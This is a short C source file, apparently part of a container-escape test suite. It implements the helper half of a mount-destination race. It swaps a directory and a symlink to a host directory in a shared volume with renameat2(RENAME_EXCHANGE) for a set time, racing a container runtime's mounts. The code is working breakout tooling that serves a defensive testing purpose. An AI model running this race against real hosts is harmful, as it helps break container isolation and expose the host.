/* Not an attempt by itself: the other half of mount-dest-race.  Swap a
 * directory and a symlink to the host directory in a volume shared with the
 * container being started, back and forth, for SECONDS.
 * Args: DIR LINK SECONDS. */
#include "escape.h"

#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>


ATTEMPT(mount_dest_swapper)
{
	if (argc < 3)
		blocked("usage: DIR LINK SECONDS");
	time_t end = time(NULL) + atoi(argv[2]);
	long swaps = 0;
	int err = 0;
	while (time(NULL) < end) {
		if (renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) < 0) {
			err = errno;
			break;
		}
		swaps++;
	}
	if (err)
		blocked("renameat2(RENAME_EXCHANGE) after %ld swaps: %s", swaps, en(err));
	blocked("swapped %ld times", swaps);
}
